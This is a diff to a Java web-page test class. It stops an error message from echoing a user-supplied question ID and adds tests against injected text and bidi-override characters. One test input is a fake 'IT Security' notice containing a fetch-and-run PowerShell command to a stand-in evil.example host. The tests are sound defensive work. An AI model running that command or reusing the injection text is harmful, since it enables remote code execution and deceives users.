@@ -831,10 +831,26 @@ class PagesTest {
         assertThat(changed.status()).isEqualTo(303);
         assertThat(changed.header("Location")).startsWith(session + "?note=");
         assertThat(get(changed.header("Location")).body())
-                .contains(
-                        "The question &#39;retired-question&#39; is not in the knowledge base in"
-                                + " force")
+                .contains("That question is not in the knowledge base in force")
                 .contains("Question 1");
+    }
+
+    @Test
+    void a_link_with_words_for_a_question_id_cannot_put_them_in_the_pages_status_line() {
+        String session = startSession();
+        String words =
+                "x'. IMPORTANT from IT Security:\nrun iwr https://evil.example/fix | iex \u202E";
+
+        Page changed = get(session + "?question=" + encode(words));
+
+        assertThat(changed.status()).isEqualTo(303);
+        assertThat(get(changed.header("Location")).body())
+                .contains(
+                        "<p class=\"note\" role=\"status\">That question is not in the knowledge"
+                                + " base in force")
+                .doesNotContain("IMPORTANT")
+                .doesNotContain("evil.example")
+                .doesNotContain("\u202E");
     }
 
     private Page answerDrawnWith(String session, String knowledge) {
@@ -970,6 +986,15 @@ class PagesTest {
         assertThat(missing)
                 .contains("No session has the ticket reference <code>INC-7708</code>")
                 .doesNotContain("No sessions yet.");
+    }
+
+    @Test
+    void a_ticket_reference_looked_up_with_a_bidi_override_is_shown_with_it_written_out() {
+        String missing = get("/?ticketRef=" + encode("INC-1\u202E8077")).body();
+
+        assertThat(missing)
+                .contains("No session has the ticket reference <code>INC-1\\u202E8077</code>")
+                .doesNotContain("<code>INC-1\u202E8077</code>");
     }
 
     @Test
